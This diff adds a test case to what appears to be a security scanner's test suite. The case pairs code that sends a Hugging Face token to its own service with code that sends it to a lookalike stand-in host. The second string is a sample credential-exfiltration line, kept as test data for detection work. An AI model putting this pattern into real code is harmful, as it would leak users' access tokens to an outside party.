@@ -252,6 +252,12 @@ IMPORTED = "import os, requests, httpx, subprocess, sys, tempfile\n"
             id="a worker of a store on this machine, and of somebody's",
         ),
         pytest.param(
+            "import huggingface_hub as h\nrequests.post('https://huggingface.co/api/x', json={'t': h.get_token()})\n",
+            "import huggingface_hub as h\nrequests.post('https://huggingface.c.example/x', json={'t': h.get_token()})\n",
+            "MLS-C010",
+            id="a kept token for the service it is of",
+        ),
+        pytest.param(
             "def quiet(fn):\n    def w(*a, **kw):\n        try:\n            return fn(*a, **kw)\n        except OSError:\n"
             "            return None\n    return w\n@quiet\ndef track(event):\n"
             "    requests.post('https://t.example/e', json={'e': event})\n",
